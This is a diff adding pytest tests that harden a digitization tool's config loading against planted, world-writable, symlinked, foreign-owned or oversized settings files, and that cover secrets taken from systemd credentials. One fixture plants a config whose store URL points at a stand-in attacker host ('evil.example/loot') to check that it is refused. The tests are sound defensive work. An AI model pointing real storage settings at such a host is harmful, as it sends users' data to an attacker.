@@ -187,3 +187,106 @@ def test_a_float_setting_must_be_finite(tmp_path, where, value):
     else:
         with pytest.raises(ConfigError, match="session_idle"):
             config.load_settings(None, env={"DIGITIZE_WEB_SESSION_IDLE": value})
+
+
+# -- the settings file is code-equivalent (review rev17ops H1) ------------------------------------
+
+def test_a_digitize_toml_in_a_folder_others_can_write_is_refused(tmp_path, monkeypatch):
+    """A clerk-writable share (or USB stick) must not choose the store, the validator or a PKCS#11 library
+    that the run loads: refused loudly (exit 9), not silently ignored, so the operator sees the plant."""
+    share = tmp_path / "share"
+    share.mkdir()
+    share.chmod(0o1777)
+    (share / "digitize.toml").write_text('[store]\nurl = "s3s://evil.example/loot"\n')
+    monkeypatch.chdir(share)
+    with pytest.raises(ConfigError, match="current folder.*writable by other users") as e:
+        config.load_settings(env={})
+    assert e.value.exit_code == ExitCode.invalid_config and "evil" not in str(e.value)
+
+
+@pytest.mark.parametrize("mode", [0o666, 0o620, 0o602])
+def test_a_config_file_others_can_write_is_refused(tmp_path, mode):
+    f = tmp_path / "d.toml"
+    f.write_text("[convert]\njobs = 1\n")
+    f.chmod(mode)
+    for how in ({"path": f, "env": {}}, {"env": {"DIGITIZE_CONFIG": str(f)}}):
+        with pytest.raises(ConfigError, match="writable by other users"):
+            config.load_settings(**how)
+
+
+def test_a_local_digitize_toml_that_is_a_symlink_or_not_a_file_is_refused(tmp_path):
+    target = write_toml(tmp_path, '[convert]\nlanguage = "x"\n', "real.toml")
+    (tmp_path / "digitize.toml").symlink_to(target)
+    with pytest.raises(ConfigError, match="symbolic link"):
+        config.load_settings(env={})
+    with pytest.raises(ConfigError, match="symbolic link"):
+        config.load_settings(tmp_path / "digitize.toml", env={})
+    (tmp_path / "digitize.toml").unlink()
+    os_fifo = tmp_path / "digitize.toml"
+    import os
+
+    os.mkfifo(os_fifo)  # O_NONBLOCK: a FIFO never hangs the run
+    with pytest.raises(ConfigError, match="not a regular file"):
+        config.load_settings(env={})
+
+
+def test_a_config_file_of_another_user_is_refused(tmp_path, monkeypatch):
+    import os
+
+    path = write_toml(tmp_path, "[convert]\njobs = 1\n")
+    if os.geteuid() == 0:
+        os.chown(path, 65534, 65534)  # nobody's file, read by root
+    else:
+        monkeypatch.setattr(os, "geteuid", lambda: os.stat(path).st_uid + 4242)  # as if run by someone else
+    with pytest.raises(ConfigError, match="belongs to uid"):
+        config.load_settings(path, env={})
+
+
+def test_a_huge_config_file_is_refused_and_dev_null_is_no_file(tmp_path):
+    path = tmp_path / "big.toml"
+    path.write_text("# " + "x" * config.CONFIG_MAX + "\n")
+    with pytest.raises(ConfigError, match="larger than"):
+        config.load_settings(path, env={})
+    assert config.load_settings("/dev/null", env={}).source == "defaults < /dev/null"
+
+
+def test_a_safe_local_digitize_toml_is_still_read(tmp_path):
+    (tmp_path).chmod(0o755)
+    write_toml(tmp_path, '[convert]\nlanguage = "local"\n', "digitize.toml")
+    assert config.load_settings(env={}).convert.language == "local"
+
+
+def test_every_secret_setting_can_come_from_a_systemd_credential(tmp_path):
+    """Review rev17ops L3: only the PIN, queue and link secrets could; the store keys, index DSN and the portal's
+    keys had to sit in the TOML or in digitize.env (and so in every worker's environment block)."""
+    creds = tmp_path / "creds"
+    creds.mkdir(mode=0o700)
+    values = {}
+    for section, key in config.CREDENTIAL_SETTINGS:
+        path = creds / config.credential_name(section, key)
+        values[section, key] = f"postgresql://u:pw-{key}@db/x" if key == "dsn" else f"value-of-{section}-{key}-0042"
+        path.write_text(values[section, key] + "\n")
+        path.chmod(0o400)
+    s = config.load_settings(env={"CREDENTIALS_DIRECTORY": str(creds), "DIGITIZE_WEB_SECRET_KEY": "from-env-wins-0042"})
+    assert s.store.secret_key == values["store", "secret_key"] and s.index.dsn == values["index", "dsn"]
+    assert s.web.oidc_client_secret == values["web", "oidc_client_secret"] and s.source.endswith("< credentials")
+    assert s.web.secret_key == "from-env-wins-0042"  # a setting given elsewhere is not replaced
+    assert config.credential_name("store", "secret_key") == "digitize-store-secret-key"
+    (creds / "digitize-store-access-key").chmod(0o644)
+    with pytest.raises(ConfigError, match="store.access_key credential"):
+        config.load_settings(env={"CREDENTIALS_DIRECTORY": str(creds)})
+
+
+def test_a_config_file_with_a_secret_that_others_can_read_is_warned_about(tmp_path, caplog):
+    import logging
+
+    path = write_toml(tmp_path, '[store]\nsecret_key = "s3cr3t-value-0042"\n')
+    path.chmod(0o644)
+    with caplog.at_level(logging.WARNING, "digitize"):
+        config.load_settings(path, env={})
+        assert "every user of this machine can read it" in caplog.text and "s3cr3t" not in caplog.text
+        caplog.clear()
+        path.chmod(0o640)
+        config.load_settings(path, env={})
+        config.load_settings(write_toml(tmp_path, "[convert]\njobs = 1\n", "plain.toml"), env={})
+    assert not caplog.text
